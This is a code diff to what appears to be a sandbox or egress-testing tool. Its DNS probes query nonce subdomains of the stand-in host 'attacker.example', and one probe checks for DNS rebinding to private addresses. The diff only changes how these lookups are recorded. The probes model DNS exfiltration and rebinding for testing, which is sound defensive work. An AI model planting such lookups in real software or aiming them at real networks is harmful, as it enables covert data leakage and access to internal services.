@@ -38,7 +38,10 @@ def dns(attempt: Attempt) -> None:
     name = attempt.option("name", "NONCE.attacker.example")
     at = attempt.option("at", "attacker")
     attempt.options["to"] = {"resolver": attempt.resolver, "amazon": "169.254.169.253"}.get(at, at)
-    attempt.marks.append(name.lower())
+    if at in ("resolver", "amazon"):
+        attempt.asks(name)
+    else:
+        attempt.marks.append(name.lower())
     option = (_EDNS[attempt.option("edns")], attempt.nonce.encode()) if "edns" in attempt.options else None
     data, port = query(name, attempt.option("type", "A"), attempt.number("class", 1), option), attempt.number("port", 53)
     if attempt.option("via", "udp") == "udp":
@@ -71,7 +74,7 @@ def rebind(attempt: Attempt) -> None:
     """Look up a public name that answers with a private address, and talk to whoever is there."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
         handle.settimeout(3)
-        attempt.marks.append("rebind.attacker.example")
+        attempt.asks("rebind.attacker.example")
         handle.sendto(query("rebind.attacker.example"), (attempt.resolver, 53))
         reply = handle.recv(4096)
     if len(reply) < 16 or struct.unpack_from("!H", reply, 6)[0] == 0:
